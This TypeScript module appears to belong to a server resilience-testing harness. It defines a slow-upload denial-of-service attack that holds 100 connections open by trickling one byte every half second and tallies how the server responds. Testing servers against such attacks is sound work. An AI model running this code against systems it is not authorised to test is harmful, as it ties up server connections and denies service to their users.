import type { Attack, AttackContext } from '../attack'
import { closed, openSocket } from '../httpClient'
import { headOf } from '../uploadRequests'

const trickle = async ({ target, turn, tally }: AttackContext) => {
  for (;;) {
    await turn()
    const socket = openSocket(target)
    socket.once('data', (answer) => tally(answer.toString('latin1', 9, 12)))
    socket.write(headOf(target))
    const drip = setInterval(() => socket.write('x'), 500)
    await closed(socket)
    clearInterval(drip)
    tally('ended by the server')
  }
}

/** Large files that arrive at two bytes a second, on 100 connections. */
export const slowUploads: Attack = {
  title: 'uploads of 2 bytes a second on 100 connections',
  rate: { perSecond: 100, atOnce: 100 },
  prepare: (context) => () => {
    for (let lane = 0; lane < 100; lane++) void trickle(context)
  },
}
